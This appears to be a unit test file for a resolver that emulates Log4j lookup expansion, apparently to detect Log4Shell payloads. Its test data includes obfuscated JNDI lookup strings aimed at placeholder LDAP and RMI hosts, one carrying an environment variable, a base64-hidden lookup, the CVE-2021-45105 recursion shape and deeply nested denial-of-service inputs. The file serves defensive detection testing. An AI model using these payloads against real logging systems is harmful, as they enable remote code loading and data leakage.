import { resolveLookups } from './lookups';

describe('resolveLookups (Log4j semantics)', () => {
  it.each([
    ['${::-j}', 'j'],
    ['${env:NOPE:-j}', 'j'],
    ['${lower:ABC}', 'abc'],
    ['${upper:jnd\u0131}', 'JNDI'],
    ["${date:'j'}", 'j'],
    ["${date:'it''s'}", "it's"],
    ['${date:yyyy}', '0000'],
    ['${base64:am5kaQ==}', 'jndi'],
    ['${sys:file.separator}', '/'],
    ['${sys:user.home}', '${sys:user.home}'],
    ['${env:HOME}/x', '${env:HOME}/x'],
    ['${${::-lower}:X}', 'x'],
    // An escaped lookup is resolved on the second pass (patterns evaluate logged text again).
    ['$${lower:X}', 'x'],
    ['${unclosed ${lower:X}', '${unclosed x'],
    ['a}b${', 'a}b${'],
  ])('%s -> %s', (input, output) => {
    expect(resolveLookups(input).output).toBe(output);
  });

  it('resolves the name of a lookup before picking the lookup', () => {
    const r = resolveLookups('${${lower:J}${upper:n}${::-d}i:ldap://x/${env:USER}}');
    expect(r.jndi).toEqual(['ldap://x/${env:USER}']);
  });

  it('resolves a value again (a base64 value holding a lookup)', () => {
    const r = resolveLookups(`\${base64:${Buffer.from('${jndi:rmi://x/a}').toString('base64')}}`);
    expect(r.jndi).toEqual(['rmi://x/a']);
  });

  it('marks an escape inside a lookup (CVE-2021-45105 shape), not one at the top', () => {
    expect(resolveLookups('${${::-${::-$${::-j}}}}').escapeInLookup).toBe(true);
    expect(resolveLookups('$${ctx:user}').escapeInLookup).toBe(false);
  });

  it('stops at the depth bound and reports it', () => {
    const deep = '${::-'.repeat(100) + 'j' + '}'.repeat(100);
    const r = resolveLookups(deep);
    expect(r.depthExceeded).toBe(true);
  });

  it('finishes a megabyte of nested ${ within its work budget', () => {
    const n = (1024 * 1024) / 3;
    for (const hostile of [
      '${'.repeat(n / 2) + '}'.repeat(n / 2),
      '${::-'.repeat(n / 5) + '}'.repeat(n / 5),
      '${'.repeat(n),
      '${a}'.repeat(n / 4),
      '$${'.repeat(n / 3) + '}'.repeat(n / 3),
    ]) {
      const r = resolveLookups(hostile);
      expect(typeof r.output).toBe('string');
    }
  });
});
